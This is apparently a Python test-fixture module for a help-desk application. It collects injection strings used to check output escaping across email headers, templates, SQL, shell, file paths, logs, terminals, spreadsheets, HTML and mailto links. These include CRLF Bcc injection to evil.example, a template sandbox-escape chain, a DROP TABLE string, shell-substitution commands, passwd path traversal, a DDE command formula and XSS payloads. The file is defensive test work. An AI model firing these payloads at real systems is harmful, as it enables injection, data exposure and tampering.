"""Nasty strings, one table for every test that looks at a way out: letters, headers, logs, terminal, tables, files, queries."""

EVIL = "https://evil.example/x"
BCC = "bcc-target@evil.example"

HEADER = {
    "crlf": f"x\r\nBcc: {BCC}\r\nX-Evil: 1",
    "lf": f"x\nBcc: {BCC}",
    "cr": f"x\rBcc: {BCC}",
    "folded": f"x\r\n Bcc: {BCC}",
    "body": "x\r\n\r\n<script>alert(1)</script>",
    "unicode line ends": f"x\u2028Bcc: {BCC}\u2029y\x85z\x0bw\x0cv",
    "encoded line end": "=?utf-8?Q?x=0D=0ABcc:_bcc-target=40evil.example?=",
    "second address": f"a@b.vn>, <{BCC}",
    "group": f"Nhóm: {BCC};",
    "quotes": '"; filename="x.exe',
    "message id": f"<a@b.vn>\r\nBcc: <{BCC}>",
}
TEMPLATE = {
    "expression": "{{ 7*191 }}",
    "statement": "{% for x in range(3) %}1337{% endfor %}",
    "attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "comment": "{# hidden #}",
    "format": "{0} {page} {page.desk.address!r} {name:>99999}",
    "percent": "%s %(name)s %n %d",
    "dollar": "${7*191} $(id) `id`",
}
SQL = {
    "or": "' OR '1'='1",
    "drop": "'; DROP TABLE ticket; --",
    "like": "%_%",
    "escape": "\\%/_",
    "nul": "x\x00y",
}
SHELL = {
    "substitution": "$(touch /tmp/desk-was-here)",
    "backticks": "`touch /tmp/desk-was-here`",
    "chain": "; touch /tmp/desk-was-here #",
    "pipe": "| touch /tmp/desk-was-here",
    "option": "--output=/tmp/desk-was-here",
    "newline": "a\ntouch /tmp/desk-was-here",
}
PATH = {
    "parent": "../../../../tmp/desk-was-here",
    "absolute": "/tmp/desk-was-here",
    "windows": "..\\..\\windows\\system32\\x.dll",
    "drive": "C:\\x.txt",
    "unc": "\\\\evil.example\\share\\x",
    "device": "CON.txt",
    "stream": "a.txt:evil.exe",
    "dots": "...",
    "override": "phieu\u202efdp.exe",
    "nul": "a.pdf\x00.exe",
    "long": "a" * 4000 + ".pdf",
    "url": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
}
LOG = {
    "record": "x\n2026-11-23 09:00:00,000 INFO daemon.loops.intake mail_settled inbound=1 outcome=entry",
    "crlf record": "x\r\n2026-11-23 09:00:00,000 ERROR root forged",
    "field": "x ticket=HT-2026-999999 outcome=entry",
}
TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2J\x1b[H",
    "csi in one": "\x9b31mred",
    "answer back": "\x1b[6n\x1b]52;c;ZXZpbA==\x07",
    "backspaces": "abc\x08\x08\x08evil",
    "bell": "\x07",
    "overrides": "\u202eexe.fdp\u202c \u2066x\u2069",
    "delete": "\x7f\x7f",
    "markup": "[bold red]x[/bold red] [link=https://evil.example]y[/link]",
}
FORMULA = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "dde": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example","x")',
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "full width": "＝1+1",
    "byte order mark": "\ufeff=1+1",
    "noncharacter": "a\uffff\ufffeb",
}
HTML = {
    "script": "<script>alert(1)</script>",
    "handler": '<img src=x onerror="alert(1)">',
    "breaks out": '"><svg onload=alert(1)>',
    "single quotes": "'><b onmouseover='alert(1)'>",
    "style": '<style>*{display:none}</style><div style="position:fixed">x</div>',
    "comment": "<!-- --><!--[if mso]><x><![endif]-->",
    "link": f'<a href="javascript:alert(1)">x</a> <a href="{EVIL}">vst.gov.vn</a>',
    "entities": "&lt;script&gt;&#60;script&#62;",
    "closing": "</body></html></table></td>",
    "remote": f'<img src="{EVIL}.png"><iframe src="{EVIL}"></iframe><base href="{EVIL}">',
    "form": f'<form action="{EVIL}"><input name=p></form>',
    "cdata": "]]><script>alert(1)</script>",
}
MAILTO = {
    "second header": f"x&bcc={BCC}&cc={BCC}",
    "question mark": f"x?bcc={BCC}",
    "encoded line end": "x%0D%0Abcc:%20a@b.vn",
    "line end": f"x\r\nbcc: {BCC}",
    "quotes": 'x" onclick="alert(1)" y=\'z\'',
    "fragment": "x#fragment&body=#xong",
    "plus": "a+b=c%20d;e,f",
}
KINDS = {
    "header": HEADER, "template": TEMPLATE, "sql": SQL, "shell": SHELL, "path": PATH, "log": LOG, "terminal": TERMINAL,
    "formula": FORMULA, "html": HTML, "mailto": MAILTO,
}  # fmt: skip
EVERY = {f"{kind}: {name}": value for kind, table in KINDS.items() for name, value in table.items()}
